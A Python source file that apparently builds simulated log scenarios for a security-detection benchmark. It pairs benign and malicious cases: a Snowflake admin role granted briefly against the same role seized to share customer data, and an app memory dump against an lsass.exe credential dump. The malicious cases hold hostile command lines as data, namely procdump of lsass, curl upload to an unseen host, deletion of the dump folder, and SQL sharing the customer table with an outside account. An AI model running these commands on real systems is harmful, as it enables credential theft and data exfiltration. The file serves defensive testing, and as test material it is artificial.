"""Snowflake's highest role, and programs on laptops whose memory is written to a file."""

from tools.worlds.cast import Cast
from tools.worlds.company import Person
from tools.worlds.lake import Scribe
from tools.worlds.records import azure, endpoint, snowflake
from tools.worlds.records.aws import pace
from tools.worlds.scenarios.stage import Stage, part, past
from tools.worlds.scenarios.unseen.case import Case

_ADMIN, _SECURITY = "ACCOUNTADMIN", "SECURITYADMIN"
_NO_FACTOR = 500121
_CMD = "cmd.exe"
_PROCDUMP = "\\Users\\Public\\tools\\procdump64.exe"
_CURL = "\\Windows\\System32\\curl.exe"
_SYNC = "\\Program Files\\ShopSync\\shopsync.exe"
_LSASS = "\\Windows\\System32\\lsass.exe"


def _grant(stage: Stage, user: Person) -> None:
    text = f"GRANT ROLE {_ADMIN} TO USER {snowflake.user_name(user)}"
    snowflake.query(stage.scribe, stage.at, stage.person, text, "GRANT", role=_SECURITY, decisive=True)


def _hand_over(stage: Stage, user: Person) -> None:
    """The role is given for a piece of work, and taken back within the hour."""
    scribe = stage.scribe
    snowflake.login(scribe, stage.before(9), stage.person, stage.where.address, decisive=True)
    _grant(stage, user)
    where = stage.branch.presence(user, stage.at)
    snowflake.login(scribe, stage.after(4, 6), user, where.address, decisive=True)
    steps = (
        ("SHOW WAREHOUSES", "SHOW"),
        ("ALTER WAREHOUSE SHOP_WH SET WAREHOUSE_SIZE = 'LARGE'", "ALTER"),
        ("SHOW RESOURCE MONITORS", "SHOW"),
    )
    for moment, (text, kind) in zip(pace(stage.dice, stage.after(8, 10), 3, 60, 300), steps, strict=True):
        snowflake.query(scribe, moment, user, text, kind, role=_ADMIN, decisive=True)
    text = f"REVOKE ROLE {_ADMIN} FROM USER {snowflake.user_name(user)}"
    snowflake.query(scribe, stage.after(44, 52), stage.person, text, "REVOKE", role=_SECURITY, decisive=True)


def _role_history(scribe: Scribe, cast: Cast) -> None:
    team = cast.branch.colleagues["analytics"]
    for giver, taker, days_ago in ((0, 1, 23), (2, 2, 16), (1, 3, 8)):
        _hand_over(past(scribe.aside("role", days_ago), cast, team[giver], days_ago), team[taker])


def role_handed_over(stage: Stage) -> None:
    """To oneself, as a colleague did, for the same work; taken back."""
    _hand_over(stage, stage.person)


def role_seized(stage: Stage) -> None:
    """Denied prompts until one is accepted, elsewhere; then customers are shared with another account."""
    scribe, branch, person, where = stage.scribe, stage.branch, stage.person, stage.elsewhere()
    for moment, error in zip(pace(stage.dice, stage.before(24), 5, 40, 100), (*[_NO_FACTOR] * 4, 0), strict=True):
        azure.sign_in(scribe, branch, moment, person, where, error=error, known_device=False, decisive=True)
    for minutes in (29, 4, -8):
        azure.sign_in(
            scribe, branch, stage.before(minutes), person, stage.where, app="Microsoft Teams", interactive=False,
            decisive=True,
        )  # fmt: skip
    snowflake.login(scribe, stage.before(9), person, where.address, decisive=True)
    _grant(stage, person)
    steps = (
        ("SELECT * FROM customers LIMIT 100", "SELECT"),
        ("CREATE SHARE SHOP_PARTNER", "CREATE"),
        ("GRANT SELECT ON TABLE SHOP.PUBLIC.CUSTOMERS TO SHARE SHOP_PARTNER", "GRANT"),
        (f"ALTER SHARE SHOP_PARTNER ADD ACCOUNTS = {stage.dice.base32(2)}{stage.dice.digits(5)}", "ALTER"),
    )
    for moment, (text, kind) in zip(pace(stage.dice, stage.after(8, 10), 4, 60, 300), steps, strict=True):
        snowflake.query(scribe, moment, person, text, kind, role=_ADMIN, decisive=True)


def _dump(stage: Stage, program: str, to: str, address: str) -> None:
    """The memory of one of two programs is written to a file, by its number, and the file is sent away."""
    scribe, branch, person, dice = stage.scribe, stage.branch, stage.person, stage.dice
    lsass, sync = str(dice.between(700, 990)), str(dice.between(4000, 9900))
    endpoint.process(
        scribe, branch, stage.before(96), person, _LSASS, "C:\\WINDOWS\\system32\\lsass.exe", parent="wininit.exe",
        pid=lsass, decisive=True,
    )  # fmt: skip
    endpoint.process(
        scribe, branch, stage.before(58), person, _SYNC, "shopsync.exe --tray", pid=sync, decisive=True
    )  # fmt: skip
    file = f"C:\\dumps\\{dice.hex(6)}.dmp"
    number = lsass if program == _LSASS else sync
    command = f"procdump64.exe -accepteula -ma {number} {file}"
    endpoint.process(scribe, branch, stage.at, person, _PROCDUMP, command, parent=_CMD, decisive=True)
    endpoint.process(
        scribe, branch, stage.after(3, 4), person, _CURL, f"curl.exe -T {file} {to}", parent=_CMD, decisive=True
    )  # fmt: skip
    endpoint.connect(scribe, branch, stage.after(4.1, 5), person, _CURL, address, decisive=True)


def _dump_sync(stage: Stage) -> None:
    """The program for stock hangs; what it has in memory goes to the company's storage."""
    company = stage.scribe.company
    _dump(stage, _SYNC, f"https://dumps.{company.org}.example/", company.storage)
    endpoint.process(
        stage.scribe, stage.branch, stage.after(8, 11), stage.person, _SYNC, "shopsync.exe --tray", decisive=True
    )  # fmt: skip


def _dump_history(scribe: Scribe, cast: Cast) -> None:
    for index, days_ago in ((0, 19), (2, 13), (3, 5)):
        _dump_sync(past(scribe.aside("dump"), cast, cast.branch.colleagues["support"][index], days_ago))


def dumped_program(stage: Stage) -> None:
    """As on laptops of colleagues."""
    _dump_sync(stage)


def dumped_passwords(stage: Stage) -> None:
    """The number is that of the process that holds passwords; the file goes to an address never seen."""
    scribe, branch, person, where = stage.scribe, stage.branch, stage.person, stage.elsewhere()
    commands = (("whoami.exe", "whoami.exe /priv"), ("net.exe", 'net.exe group "Domain Admins" /domain'))
    for minutes, (name, command) in zip((11, 8), commands, strict=True):
        program = f"\\Windows\\System32\\{name}"
        endpoint.process(scribe, branch, stage.before(minutes), person, program, command, parent=_CMD, decisive=True)
    _dump(stage, _LSASS, f"https://{where.address}/", where.address)
    endpoint.process(
        scribe, branch, stage.after(8, 11), person, "\\Windows\\System32\\cmd.exe", "cmd.exe /c del /q C:\\dumps",
        parent=_CMD, decisive=True,
    )  # fmt: skip


CASES = (
    Case(
        (
            part(
                "account-admin/handed-over",
                "benign",
                "A size is changed with the role, which is taken back within the hour, as by colleagues.",
                role_handed_over,
                team="analytics",
                hours_ago=8,
            ),
            part(
                "account-admin/seized",
                "malicious",
                "Denied prompts and a login at an unknown address, while the person is signed in at another; customers "
                "are shared with an account, and the role stays.",
                role_seized,
                team="analytics",
                hours_ago=9,
            ),
        ),
        _role_history,
    ),
    Case(
        (
            part(
                "dump/program",
                "benign",
                "The number is that of the program for stock; the file goes to the company's storage, as colleagues' do.",
                dumped_program,
                team="support",
                hours_ago=15,
            ),
            part(
                "dump/passwords",
                "malicious",
                "The number is that of lsass.exe; the file goes to an address never seen, and the folder is emptied.",
                dumped_passwords,
                team="support",
                hours_ago=16,
            ),
        ),
        _dump_history,
    ),
)
